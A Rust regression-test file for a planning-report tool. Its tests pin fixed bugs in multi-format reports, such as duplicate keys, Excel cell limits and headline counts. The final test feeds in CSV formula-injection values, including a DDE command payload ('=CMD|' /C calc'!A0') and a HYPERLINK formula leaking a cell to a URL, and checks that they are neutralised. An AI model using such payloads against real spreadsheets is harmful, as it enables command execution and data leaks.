//! Bugs fixed, each pinned by a test named after it.

use std::io::Cursor;

use calamine::{Data, DataType, Reader, Xlsx};
use ragplan_core::{
    Action, Key, Objective, Owner, Plan, PlanId, Rating, Status, SubObjective, Timescale,
};
use ragplan_report::content::ExceptionKind;
use ragplan_report::{Format, Report, render};
use scraper::{ElementRef, Html, Selector};

use crate::common::{day, report_of, text};

fn key(text: &str) -> Key {
    Key::new(text).unwrap()
}

/// Objective 1 → sub-objective 1.1 "Share information" → two actions that also have
/// the key 1.1: "First action" (due May 2015, Alice, reported Green with no
/// evidence: overdue, so Red) and "Second action" (due March 2016, Bob Jones,
/// reported Amber with evidence). A lint looked up by its key lands on the
/// sub-objective, the first node with that key: the report did so before lints were
/// pinned by place.
fn shared_key_plan() -> Plan {
    let mut plan = Plan::new(PlanId::new("shared-key").unwrap(), "Shared key plan");
    // Reported as a whole on the report date, so that no action is flagged never updated.
    plan.reported_on = Some(day(2015, 6, 30));
    let mut objective = Objective::new(key("1"), "Protect");
    let mut sub = SubObjective::new(key("1.1"), "Share information");
    let mut first = Action::new(key("1.1"), "First action");
    first.timescale = Timescale::parse("May 2015");
    first.accountable.push(Owner::person("Alice"));
    first.action_rag = Some(Rating::Green);
    first.status = Some(Status::InProgress);
    let mut second = Action::new(key("1.1"), "Second action");
    second.timescale = Timescale::parse("March 2016");
    second.accountable.push(Owner::person("Bob Jones"));
    second.action_rag = Some(Rating::Amber);
    second.status = Some(Status::InProgress);
    second.evidence.push("Minutes of the board".to_owned());
    sub.actions = vec![first, second];
    objective.sub_objectives.push(sub);
    plan.objectives.push(objective);
    plan
}

fn shared_key_report() -> Report<'static> {
    report_of(shared_key_plan(), day(2015, 6, 30))
}

const OVERDUE: &str = "Red because action 1.1 \"First action\" was due 31 May 2015 and is not \
                       complete (30 days overdue).";

/// The exception groups that list First action and nothing else; every other
/// group is empty.
const FIRST_ONLY: [(ExceptionKind, &str); 3] = [
    (ExceptionKind::Red, "Red"),
    (ExceptionKind::Overdue, "Overdue"),
    (ExceptionKind::GreenWithoutEvidence, "Green without evidence"),
];

#[test]
fn actions_sharing_a_key_each_keep_their_own_details_in_every_format() {
    let report = shared_key_report();

    // The report itself (what the templates see).
    let actions: Vec<_> = report.actions.iter().collect();
    let rows: Vec<_> = actions
        .iter()
        .map(|a| {
            (
                a.key.as_str(),
                a.title.as_str(),
                a.sub_objective.as_deref(),
                a.accountable.clone(),
                a.due,
                a.delivery.rating,
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            (
                "1.1",
                "First action",
                Some("Share information"),
                vec!["Alice".to_owned()],
                Some(day(2015, 5, 31)),
                Rating::Red
            ),
            (
                "1.1",
                "Second action",
                Some("Share information"),
                vec!["Bob Jones".to_owned()],
                Some(day(2016, 3, 31)),
                Rating::Amber
            ),
        ]
    );
    assert_eq!(actions[0].reason, OVERDUE);
    assert!(actions[0].flags.contains(&"overdue".to_owned()));
    assert!(actions[1].reason.contains("\"Second action\""), "{}", actions[1].reason);
    assert!(!actions[1].reason.contains("First action"));
    assert!(!actions[1].flags.contains(&"overdue".to_owned()), "{:?}", actions[1].flags);
    for group in &report.exceptions {
        let items: Vec<(&str, &str, Rating)> = group
            .items
            .iter()
            .map(|i| (i.key.as_str(), i.title.as_str(), i.rating.rating))
            .collect();
        if FIRST_ONLY.iter().any(|(kind, _)| *kind == group.kind) {
            assert_eq!(items, [("1.1", "First action", Rating::Red)], "{:?}", group.kind);
        } else {
            assert!(items.is_empty(), "{:?}: {items:?}", group.kind);
        }
    }
    let gwe = &report.exceptions.iter().find(|g| g.kind == ExceptionKind::GreenWithoutEvidence);
    assert_eq!(
        gwe.unwrap().items[0].reason,
        "Action 1.1 \"First action\" is reported Green with no evidence."
    );
    let owners: Vec<(&str, Vec<&str>, Vec<&str>)> =
        report.owners.iter().map(|h| (h.name.as_str(), strs(&h.keys), strs(&h.red_keys))).collect();
    assert_eq!(owners, [("Alice", vec!["1.1"], vec!["1.1"]), ("Bob Jones", vec!["1.1"], vec![])]);

    check_markdown(&text(render(&report, Format::Markdown).unwrap()));
    check_html(&text(render(&report, Format::Html).unwrap()));
    check_csv(&text(render(&report, Format::Csv).unwrap()));
    check_xlsx(render(&report, Format::Xlsx).unwrap(), &actions[1].reason);
    check_docx(&render(&report, Format::Docx).unwrap());
    check_json(&text(render(&report, Format::Json).unwrap()));
}

/// The Word document's objective table has both actions with their own rating,
/// status and owner, and its Red list names First action alone.
fn check_docx(bytes: &[u8]) {
    use ragplan_report::docx::OBJECTIVE_COLUMNS;
    let body = crate::docx::read_body(&crate::docx::part(bytes, "word/document.xml").unwrap());
    let table = body.tables.iter().find(|t| t.texts(0) == OBJECTIVE_COLUMNS).unwrap();
    assert_eq!(table.rows.len(), 4, "a header, the sub-objective and its two actions");
    assert_eq!(table.texts(1)[..3], ["1.1", "Share information", "■ RED"]);
    assert_eq!(
        table.texts(2)[..6],
        ["1.1", "First action", "■ RED", "○ NOT RATED", "in progress", "Alice"]
    );
    assert_eq!(
        table.texts(3)[..6],
        ["1.1", "Second action", "▲ AMBER", "○ NOT RATED", "in progress", "Bob Jones"]
    );
    let red = body.tables.iter().find(|t| t.texts(0) == ["Key", "Title", "Delivery", "Why"]);
    let red = red.unwrap();
    assert_eq!(red.rows.len(), 2);
    assert_eq!(red.texts(1), ["1.1", "First action", "■ RED", OVERDUE]);
}

fn strs(items: &[String]) -> Vec<&str> {
    items.iter().map(String::as_str).collect()
}

/// The table rows under the `### heading` of a Markdown report, up to the next heading.
fn markdown_rows<'a>(markdown: &'a str, heading: &str) -> Vec<&'a str> {
    let start = markdown.find(&format!("\n### {heading}")).unwrap_or_else(|| panic!("{heading}"));
    markdown[start + 1..]
        .lines()
        .skip(1)
        .take_while(|l| !l.starts_with('#'))
        .filter(|l| l.starts_with("| 1.1 ") || l.starts_with("| **1.1**"))
        .collect()
}

fn check_markdown(markdown: &str) {
    for (_, heading) in FIRST_ONLY {
        let rows = markdown_rows(markdown, &format!("{heading} (1)"));
        assert_eq!(rows.len(), 1, "{heading}: {rows:?}");
        assert!(rows[0].starts_with("| 1.1 | First action | ■ RED |"), "{heading}: {}", rows[0]);
    }
    let red = markdown_rows(markdown, "Red (1)");
    assert!(red[0].contains(OVERDUE), "{}", red[0]);
    let rows = markdown_rows(markdown, "1 Protect");
    assert_eq!(rows.len(), 3, "{rows:?}");
    assert!(rows[0].starts_with("| **1.1** | **Share information** | ■ RED |"), "{}", rows[0]);
    assert!(
        rows[1].starts_with("| 1.1 | First action | ■ RED | ○ NOT RATED | in progress | Alice |"),
        "{}",
        rows[1]
    );
    assert!(rows[1].contains("| May 2015 |"), "{}", rows[1]);
    assert!(
        rows[2].starts_with(
            "| 1.1 | Second action | ▲ AMBER | ○ NOT RATED | in progress | Bob Jones |"
        ),
        "{}",
        rows[2]
    );
    assert!(rows[2].contains("| March 2016 |"), "{}", rows[2]);
    assert!(markdown.contains("| Alice | 1 | ■ RED | 1 Red | 1.1 |"), "{markdown}");
    assert!(markdown.contains("| Bob Jones | 1 | ▲ AMBER | 1 Amber |  |"), "{markdown}");
}

fn cells(row: ElementRef<'_>) -> Vec<String> {
    let cell = Selector::parse("th, td").unwrap();
    row.select(&cell).map(|c| c.text().collect::<String>().trim().to_owned()).collect()
}

/// The body rows of the table whose caption is `caption`, cell by cell.
fn html_rows(document: &Html, caption: &str) -> Vec<Vec<String>> {
    let table = Selector::parse("table").unwrap();
    let caption_of = Selector::parse("caption").unwrap();
    let row = Selector::parse("tbody tr").unwrap();
    let table = document
        .select(&table)
        .find(|t| {
            t.select(&caption_of).next().is_some_and(|c| c.text().collect::<String>() == caption)
        })
        .unwrap_or_else(|| panic!("no table {caption:?}"));
    table.select(&row).map(cells).collect()
}

fn check_html(html: &str) {
    let document = Html::parse_document(html);
    for (_, heading) in FIRST_ONLY {
        let rows = html_rows(&document, &format!("{heading} (1)"));
        assert_eq!(rows.len(), 1, "{heading}: {rows:?}");
        assert_eq!(rows[0][..3], ["1.1", "First action", "■ RED"], "{heading}");
    }
    assert_eq!(html_rows(&document, "Red (1)")[0][3], OVERDUE);
    let rows = html_rows(&document, "Sub-objectives and actions of objective 1");
    assert_eq!(rows.len(), 3, "{rows:?}");
    assert_eq!(rows[0][..3], ["1.1", "Share information", "■ RED"]);
    // Key, title with flags, delivery, accountable, timescale.
    let pick = |r: &[String]| [0, 1, 2, 5, 8].map(|i| r[i].clone());
    assert_eq!(pick(&rows[1]), ["1.1", "First action overdue", "■ RED", "Alice", "May 2015"]);
    assert_eq!(pick(&rows[2]), ["1.1", "Second action", "▲ AMBER", "Bob Jones", "March 2016"]);
    let owners = html_rows(&document, "What each accountable owner holds");
    let owners: Vec<Vec<&str>> =
        owners.iter().map(|r| r.iter().map(String::as_str).collect()).collect();
    assert_eq!(
        owners,
        [
            vec!["Alice", "1", "■ RED", "1 Red", "1.1"],
            vec!["Bob Jones", "1", "▲ AMBER", "1 Amber", ""]
        ]
    );
}

fn check_csv(csv_text: &str) {
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    // After the plan's id and the as-of date.
    let rows: Vec<Vec<&str>> =
        records.iter().map(|r| [2, 4, 5, 6, 9, 13].iter().map(|&i| &r[i]).collect()).collect();
    assert_eq!(
        rows,
        [
            ["1.1", "Share information", "First action", "Red", "Alice", "2015-05-31"],
            ["1.1", "Share information", "Second action", "Amber", "Bob Jones", "2016-03-31"],
        ]
    );
    assert_eq!(&records[0][14], "overdue");
    assert_eq!(&records[0][15], OVERDUE);
    assert_eq!(&records[1][14], "");
    assert!(records[1][15].contains("\"Second action\""), "{}", &records[1][15]);
}

/// `second_reason`: Second action's own reason, checked above.
fn check_xlsx(bytes: Vec<u8>, second_reason: &str) {
    let mut book = Xlsx::new(Cursor::new(bytes)).unwrap();
    let text = |data: Option<&Data>| data.map(ToString::to_string).unwrap_or_default();
    let actions = book.worksheet_range("Actions").unwrap();
    let rows: Vec<Vec<String>> = (1..3)
        .map(|r| [0, 3, 4, 7, 13].iter().map(|&c| text(actions.get_value((r, c)))).collect())
        .collect();
    assert_eq!(
        rows,
        [
            ["1.1", "First action", "Red", "Alice", OVERDUE],
            ["1.1", "Second action", "Amber", "Bob Jones", second_reason],
        ]
    );
    // The due dates are dates: 31 May 2015 and 31 March 2016 as Excel serials.
    let serial = |r: u32| actions.get_value((r, 11)).and_then(Data::as_date);
    assert_eq!(serial(1), Some(day(2015, 5, 31)));
    assert_eq!(serial(2), Some(day(2016, 3, 31)));

    let exceptions = book.worksheet_range("Exceptions").unwrap();
    let listed: Vec<Vec<String>> = (1..exceptions.height() as u32)
        .map(|r| (0..4).map(|c| text(exceptions.get_value((r, c)))).collect())
        .collect();
    let want: Vec<Vec<String>> = FIRST_ONLY
        .iter()
        .map(|(_, heading)| [heading, "1.1", "First action", "Red"].map(String::from).to_vec())
        .collect();
    assert_eq!(listed, want);
}

fn check_json(json: &str) {
    let json: serde_json::Value = serde_json::from_str(json).unwrap();
    let actions: Vec<(&str, &str, &str, &str, &str)> = json["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                a["key"].as_str().unwrap(),
                a["title"].as_str().unwrap(),
                a["accountable"][0].as_str().unwrap(),
                a["due"].as_str().unwrap(),
                a["delivery"]["rating"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        actions,
        [
            ("1.1", "First action", "Alice", "2015-05-31", "red"),
            ("1.1", "Second action", "Bob Jones", "2016-03-31", "amber"),
        ]
    );
    assert_eq!(json["actions"][0]["reason"], OVERDUE);
    for group in json["exceptions"].as_array().unwrap() {
        let items: Vec<(&str, &str)> = group["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| (i["title"].as_str().unwrap(), i["rating"]["rating"].as_str().unwrap()))
            .collect();
        let kind = group["kind"].as_str().unwrap();
        if ["red", "overdue", "green_without_evidence"].contains(&kind) {
            assert_eq!(items, [("First action", "red")], "{kind}");
        } else {
            assert!(items.is_empty(), "{kind}: {items:?}");
        }
    }
}

/// The XLSX report failed (CLI exit 2, API 500) for any text over 32,767
/// characters, the most a spreadsheet cell holds. Such text is now cut in its cell,
/// which says at its end how much was left out; the CSV keeps it whole.
#[test]
fn an_xlsx_report_failed_on_text_longer_than_a_cell_holds() {
    let mut plan = crate::common::coventry_plan();
    let long = "Evidence of training. ".repeat(2_000);
    assert!(long.chars().count() > ragplan_report::xlsx::MAX_CELL_CHARS);
    let first = plan.actions_mut().next().unwrap_or_else(|| panic!("no action"));
    first.title = long.clone();
    let key = first.key.clone();
    let (now, before) = crate::common::rated(&plan, crate::common::day(2015, 6, 30), None);
    let report = ragplan_report::Report::build(
        &now,
        before.as_ref(),
        &ragplan_report::ReportOptions::default(),
    );
    let bytes = ragplan_report::render(&report, ragplan_report::Format::Xlsx)
        .unwrap_or_else(|e| panic!("{e}"));
    let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap_or_else(|e| panic!("{e}"));
    let actions = book.worksheet_range("Actions").unwrap_or_else(|e| panic!("{e}"));
    let row = (1..actions.height() as u32)
        .find(|r| actions.get_value((*r, 0)).map(ToString::to_string) == Some(key.to_string()))
        .unwrap_or_else(|| panic!("no row for {key}"));
    let cell = actions.get_value((row, 3)).map(ToString::to_string).unwrap_or_default();
    assert_eq!(cell.chars().count(), ragplan_report::xlsx::MAX_CELL_CHARS);
    assert!(long.starts_with(cell.split(" … [cut:").next().unwrap_or_default()));
    assert!(
        cell.ends_with("more characters do not fit in a cell; see the plan]"),
        "{}",
        cell.chars().skip(ragplan_report::xlsx::MAX_CELL_CHARS - 120).collect::<String>()
    );
    let csv = ragplan_report::render(&report, ragplan_report::Format::Csv)
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(String::from_utf8_lossy(&csv).contains(long.trim_end()));
}

/// "46 kept their rating" counted sub-objectives and objectives beside actions as one
/// number; each kind is now counted on its own.
#[test]
fn kept_their_rating_counted_sub_objectives_beside_actions() {
    let coventry = crate::common::coventry_report();
    let movement = coventry.report.movement.as_ref().unwrap();
    assert_eq!(movement.n_unchanged, 46);
    assert_eq!(
        movement.unchanged_text,
        "30 actions, 15 sub-objectives and 1 objective kept their rating."
    );
    let markdown = String::from_utf8(render(&coventry.report, Format::Markdown).unwrap()).unwrap();
    assert!(!markdown.contains("46 kept their rating"), "{markdown}");
}

/// The headline never said that 20 of 34 actions had no reported rating or that 22
/// had no accountable owner: it now opens with each gap, a count of actions linked to
/// the list that names them, in every format.
#[test]
fn the_headline_left_out_the_plans_data_gaps() {
    let coventry = crate::common::coventry_report();
    let (ratings, report) = (coventry.ratings(), &coventry.report);
    let counted: Vec<_> = ratings.actions().filter(|n| !n.is_left_out()).collect();
    let with = |flag: ragplan_core::Flag| counted.iter().filter(|n| n.has(flag)).count() as u32;
    let gaps: Vec<(u32, &str, &str)> =
        report.headline.gaps.iter().map(|g| (g.count, g.text, g.anchor.as_str())).collect();
    assert_eq!(report.headline.actions, counted.len() as u32);
    assert_eq!(
        gaps[0],
        (
            with(ragplan_core::Flag::Unreported),
            "have no reported rating",
            "exceptions-no-reported-rating"
        )
    );
    let no_owner = counted.iter().filter(|n| n.action().is_some_and(|a| a.accountable.is_empty()));
    assert_eq!(
        gaps[1],
        (no_owner.count() as u32, "have no accountable owner", "exceptions-no-accountable-owner")
    );
    assert_eq!(gaps[2].0, with(ragplan_core::Flag::Stale));
    // Each link names a list that is there, with as many actions as the count says.
    let html = String::from_utf8(render(report, Format::Html).unwrap()).unwrap();
    let page = Html::parse_document(&html);
    for gap in &report.headline.gaps {
        let link = Selector::parse(&format!("p.gaps a[href='#{}']", gap.anchor)).unwrap();
        assert!(page.select(&link).next().is_some(), "no link to {}", gap.anchor);
        let rows = Selector::parse(&format!("#{} tbody tr", gap.anchor)).unwrap();
        if gap.anchor != "exceptions-no-recent-update" {
            assert_eq!(page.select(&rows).count() as u32, gap.count, "{}", gap.anchor);
        }
    }
    let markdown = String::from_utf8(render(report, Format::Markdown).unwrap()).unwrap();
    assert!(markdown.contains(&format!(
        "Of the {} actions: [{} have no reported rating](#exceptions-no-reported-rating)",
        counted.len(),
        gaps[0].0
    )));
    assert!(markdown.contains("<a id=\"exceptions-no-reported-rating\"></a>"));
    // The workbook's summary gives them too, counts as numbers.
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(render(report, Format::Xlsx).unwrap())).unwrap();
    let summary = book.worksheet_range("Summary").unwrap();
    let at = (0..summary.height() as u32)
        .find(|r| {
            summary.get_value((*r, 0)).map(ToString::to_string).as_deref() == Some("Data gaps")
        })
        .expect("a Data gaps block");
    for (i, gap) in report.headline.gaps.iter().enumerate() {
        let row = at + 1 + i as u32;
        assert_eq!(summary.get_value((row, 0)), Some(&Data::Float(gap.count.into())));
        assert_eq!(summary.get_value((row, 1)).map(ToString::to_string).as_deref(), Some(gap.text));
    }
}

/// A plan of one action was headed "1 actions: 1 Red".
#[test]
fn one_action_was_counted_as_1_actions() {
    let plan = ragplan_core::generate::synthetic_plan(1, 1, 3);
    let policy = ragplan_core::Policy::default();
    let as_of = chrono::NaiveDate::from_ymd_opt(2015, 6, 30).unwrap();
    let ratings = ragplan_core::rate(&plan, &policy, as_of);
    let report =
        ragplan_report::Report::build(&ratings, None, &ragplan_report::ReportOptions::default());
    for format in [ragplan_report::Format::Html, ragplan_report::Format::Markdown] {
        let text = String::from_utf8(ragplan_report::render(&report, format).unwrap()).unwrap();
        // The generated plan's own title says "of 1 actions"; the counts do not.
        assert!(!text.contains("1 actions:"), "{format}: {text}");
        if format == ragplan_report::Format::Html {
            assert!(text.contains("1 action: "), "{format}: {text}");
        }
    }
}

/// Text of fewer than 32,767 characters but more UTF-16 units (emoji count two in
/// Excel's limit) was written whole: the writer refused it in the summary (the report
/// failed), and a list sheet held a cell longer than Excel's limit. It is now cut by
/// Excel's count, wherever it stands.
#[test]
fn text_of_wide_characters_was_not_cut_at_excels_limit() {
    let mut plan = crate::common::coventry_plan();
    let long = "a🙂".repeat(12_000);
    assert!(long.chars().count() < ragplan_report::xlsx::MAX_CELL_CHARS);
    assert!(long.encode_utf16().count() > ragplan_report::xlsx::MAX_CELL_CHARS);
    plan.objectives[0].title = long.clone();
    let (now, _) = crate::common::rated(&plan, crate::common::day(2015, 6, 30), None);
    let report = ragplan_report::Report::build(&now, None, &Default::default());
    let bytes = ragplan_report::render(&report, ragplan_report::Format::Xlsx)
        .unwrap_or_else(|e| panic!("{e}"));
    let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap_or_else(|e| panic!("{e}"));
    let actions = book.worksheet_range("Actions").unwrap_or_else(|e| panic!("{e}"));
    let summary = book.worksheet_range("Summary").unwrap_or_else(|e| panic!("{e}"));
    let in_summary = (0..summary.height() as u32)
        .find(|r| {
            summary.get_value((*r, 0)).map(ToString::to_string)
                == Some(report.objectives[0].key.clone())
        })
        .and_then(|r| summary.get_value((r, 1)))
        .map(ToString::to_string)
        .unwrap_or_default();
    let in_actions = actions.get_value((1, 1)).map(ToString::to_string).unwrap_or_default();
    for cell in [in_summary, in_actions] {
        // Up to the limit, short of it by less than the marker's count's digits and
        // a character split across it.
        let units = cell.encode_utf16().count();
        let max = ragplan_report::xlsx::MAX_CELL_CHARS;
        assert!((max - 8..=max).contains(&units), "{units} units: {cell:.40}");
        assert!(long.starts_with(cell.split(" … [cut:").next().unwrap_or_default()));
        assert!(cell.ends_with("more characters do not fit in a cell; see the plan]"));
    }
}

/// A plan whose text begins with `=`, `+`, `-`, `@`, a tab or a carriage return, as
/// an analyst's spreadsheet or another council's system may send it: each action
/// opens its title with one of them, and its owners, partners, timescale, evidence
/// and note do too. The last action is ordinary; the one keyed `-2` is due in year
/// −3, whose date begins with `-`.
fn plan_of_formulas() -> ragplan_core::Plan {
    let action = |key: &str, title: &str| {
        serde_json::json!({
            "key": key,
            "title": title,
            "action_rag": "amber",
            "status": "in_progress",
            "timescale": {"text": "2015/16", "kind": "financial_year", "start": "2015-04-01", "due": "2016-03-31"},
            "accountable": [{"name": "Ann Lee"}],
            "updates": [{"on": "2015-06-01", "by": "Ann Lee", "delivery": "amber"}],
        })
    };
    let mut actions = vec![
        serde_json::json!({
            "key": "1.1.1",
            "title": "=HYPERLINK(\"http://example.com/?\"&A1,\"Open\")",
            "action_rag": "green",
            "status": "in_progress",
            "timescale": {"text": "=DATE(2015,5,31)", "kind": "unresolved"},
            "accountable": [{"name": "-3"}, {"name": "Ann Lee"}],
            "responsible": [{"name": "@Bob Jones"}],
            "partners": ["+Police", "Health"],
            "evidence": ["=1+1"],
            "updates": [{"on": "2015-06-01", "by": "Ann Lee", "delivery": "green", "note": "\r=1+1"}],
        }),
        action("1.1.2", "+Train front-line staff"),
        action("1.1.3", "-Agree the protocol"),
        action("1.1.4", "@SUM(A1:A9)"),
        action("1.1.5", "\tPublish the leaflet"),
        action("1.1.6", "\rRun the audit"),
        action("1.1.7", "'=already quoted"),
        action("-2", "'Twas agreed"),
        action("1.1.9", "Set up the MASH"),
    ];
    actions[7]["timescale"] = serde_json::json!({"text": "-3", "kind": "year", "start": "-0003-01-01", "due": "-0003-12-31"});
    let plan = serde_json::json!({
        "format": "ragplan/2",
        "id": "formulas",
        "title": "=Plan title",
        "reported_on": "2015-06-30",
        "objectives": [{
            "key": "1",
            "title": "=CMD|' /C calc'!A0",
            "sub_objectives": [{"key": "1.1", "title": "+Share information", "actions": actions}],
        }],
    });
    ragplan_core::Plan::from_json(&plan.to_string()).unwrap_or_else(|e| panic!("{e}"))
}

/// Text beginning with `=`, `+`, `-`, `@`, a tab or a carriage return went into
/// the CSV as it was, which Excel and LibreOffice run as a formula ("CSV injection").
/// `ragplan status --format csv` and `ragplan report --format csv` now write such a
/// text cell with a `'` before it; the dates are values and stay as they are, and
/// every other cell is unchanged.
#[test]
fn csv_formula_injection_is_neutralised() {
    use ragplan_report::csv::{ACTIONS_CSV_HEADER, FORMULA_STARTS};
    let plan = plan_of_formulas();
    let (ratings, _) = crate::common::rated(&plan, day(2015, 6, 30), None);
    let status_csv = ragplan_report::actions_csv(&ratings).unwrap_or_else(|e| panic!("{e}"));
    let report = ragplan_report::Report::build(&ratings, None, &Default::default());
    let report_csv = text(render(&report, Format::Csv).unwrap_or_else(|e| panic!("{e}")));
    assert_eq!(report_csv, status_csv, "the report's CSV is the status CSV");

    let mut reader = csv::Reader::from_reader(status_csv.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let col = |name: &str| ACTIONS_CSV_HEADER.iter().position(|h| *h == name).unwrap();
    let cells = |name: &str| records.iter().map(|r| r[col(name)].to_owned()).collect::<Vec<_>>();
    assert_eq!(
        cells("action"),
        [
            "'=HYPERLINK(\"http://example.com/?\"&A1,\"Open\")",
            "'+Train front-line staff",
            "'-Agree the protocol",
            "'@SUM(A1:A9)",
            "'\tPublish the leaflet",
            "'\rRun the audit",
            "''=already quoted",
            "'Twas agreed",
            "Set up the MASH",
        ]
    );
    let first = &records[0];
    assert_eq!(&first[col("objective")], "'=CMD|' /C calc'!A0");
    assert_eq!(&first[col("sub_objective")], "'+Share information");
    assert_eq!(&first[col("accountable")], "'-3; Ann Lee");
    assert_eq!(&first[col("responsible")], "'@Bob Jones");
    assert_eq!(&first[col("partners")], "'+Police; Health");
    assert_eq!(&first[col("timescale")], "'=DATE(2015,5,31)");
    assert_eq!(&first[col("latest_note")], "'\r=1+1");
    // A key is text: `-2` is not the number −2.
    assert_eq!(cells("key")[7], "'-2");
    assert_eq!(cells("timescale")[7], "'-3");

    // The dates are values, written as ragplan spells them, even one beginning with `-`.
    assert!(cells("as_of").iter().all(|d| d == "2015-06-30"), "{:?}", cells("as_of"));
    assert_eq!(cells("due")[7], "-0003-12-31");
    assert_eq!(cells("due")[8], "2016-03-31");

    // The ordinary action's cells are as they were.
    let last = &records[8];
    let ordinary: Vec<&str> = ["plan_id", "key", "action", "delivery", "status", "accountable"]
        .iter()
        .map(|name| &last[col(name)])
        .collect();
    assert_eq!(
        ordinary,
        ["formulas", "1.1.9", "Set up the MASH", "Amber", "in progress", "Ann Lee"]
    );

    // No text cell opens with a formula's first character, and each reads back as the
    // plan has it.
    for record in &records {
        for (name, cell) in ACTIONS_CSV_HEADER.iter().zip(record) {
            if !["as_of", "due"].contains(name) {
                assert!(!cell.starts_with(FORMULA_STARTS), "{name}: {cell:?}");
            }
        }
    }
    for (record, node) in records.iter().zip(ratings.actions()) {
        let action = node.action().unwrap_or_else(|| panic!("not an action"));
        let names = |owners: &[ragplan_core::Owner]| {
            owners.iter().map(|o| o.name.as_str()).collect::<Vec<_>>().join("; ")
        };
        assert_eq!(crate::common::read_back(&record[col("key")]), action.key.as_str());
        assert_eq!(crate::common::read_back(&record[col("action")]), action.title);
        assert_eq!(
            crate::common::read_back(&record[col("accountable")]),
            names(&action.accountable)
        );
        assert_eq!(
            crate::common::read_back(&record[col("responsible")]),
            names(&action.responsible)
        );
        assert_eq!(crate::common::read_back(&record[col("partners")]), action.partners.join("; "));
        assert_eq!(crate::common::read_back(&record[col("timescale")]), action.timescale.text);
        assert_eq!(
            crate::common::read_back(&record[col("latest_note")]),
            action.latest_note().unwrap_or("")
        );
    }
}
